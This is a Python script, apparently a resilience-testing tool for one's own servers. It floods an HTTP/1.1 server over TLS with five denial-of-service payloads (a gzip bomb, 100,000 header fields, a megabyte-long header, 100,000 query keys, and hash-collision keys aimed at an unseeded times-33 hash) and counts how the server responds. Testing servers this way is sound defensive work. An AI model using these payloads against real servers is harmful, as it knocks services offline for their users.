#!/usr/bin/python3
"""Attacks on HTTP/1.1 servers that a load generator cannot send. For servers of one's own only.

Each worker opens a connection, sends one request of the attack, reads what comes back, and starts over. The last line
of the output is `result key=value ...`:

connections  connections on which the handshake succeeded
refused      connections that were not accepted, or ended without an answer
rejected     requests answered with a status of 400 and above
through      requests answered below 400
"""

import argparse
import collections
import gzip
import socket
import ssl
import threading
import time

HEADERS = 100_000
KEYS = 100_000


def bomb(head):
    """100 MB of zeros that are 100 KB on the wire."""
    body = gzip.compress(bytes(100_000_000))
    fields = "Content-Encoding: gzip\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    return f"POST /cart {head}{fields}Content-Length: {len(body)}\r\n\r\n".encode() + body


def many_headers(head):
    """100,000 fields in one head."""
    fields = "".join(f"x{number:05x}: y\r\n" for number in range(HEADERS))
    return f"GET / {head}{fields}\r\n".encode()


def long_header(head):
    """One field of a megabyte."""
    return f"GET / {head}x-long: {'y' * 1_000_000}\r\n\r\n".encode()


def query_keys(head):
    """100,000 keys in the query: as many places in a table of whoever parses it."""
    keys = "&".join(f"k{number:05x}=v" for number in range(KEYS))
    return f"GET /search?{keys} {head}\r\n".encode()


def colliding_keys(head):
    """Keys that the unseeded hash of an older language (times 33, plus the byte) puts in one place of a table."""
    pairs = ["Ez", "FY"]
    keys = "&".join("".join(pairs[number >> bit & 1] for bit in range(16)) + "=v" for number in range(2**16))
    body = keys.encode()
    fields = "Content-Type: application/x-www-form-urlencoded\r\n"
    return f"POST /cart {head}{fields}Content-Length: {len(body)}\r\n\r\n".encode() + body


ATTACKS = {made.__name__: made for made in (bomb, many_headers, long_header, query_keys, colliding_keys)}


def connect(arguments):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    plain = socket.create_connection((arguments.address, arguments.port), timeout=5, source_address=(arguments.source, 0))
    return context.wrap_socket(plain, server_hostname=arguments.host)


def status_of(stream, request):
    """The status of the answer; None where the server ended the connection without one."""
    stream.settimeout(10)
    try:
        stream.sendall(request)
    except OSError:
        # It may have answered before it read everything.
        pass
    try:
        words = stream.recv(4096).split(b" ", 2)
        return int(words[1]) if len(words) > 1 else None
    except (OSError, ValueError):
        return None


def attack_once(arguments, request):
    happened = collections.Counter()
    try:
        stream = connect(arguments)
    except OSError:
        happened["refused"] += 1
        # A refused attacker that spins would only measure itself.
        time.sleep(0.01)
        return happened
    happened["connections"] += 1
    status = status_of(stream, request)
    stream.close()
    happened["refused" if status is None else "rejected" if status >= 400 else "through"] += 1
    return happened


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--address", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", default="localhost")
    parser.add_argument("--source", default="127.0.0.1", help="the address to attack from")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--workers", type=int, default=8)
    arguments = parser.parse_args()

    request = ATTACKS[arguments.attack](f"HTTP/1.1\r\nHost: {arguments.host}:{arguments.port}\r\n")
    until = time.monotonic() + arguments.seconds
    total, lock = collections.Counter(), threading.Lock()

    def work():
        while time.monotonic() < until:
            happened = attack_once(arguments, request)
            with lock:
                total.update(happened)

    workers = [threading.Thread(target=work) for _ in range(arguments.workers)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    print("result", *(f"{key}={total[key]}" for key in ("connections", "refused", "rejected", "through")))


main()
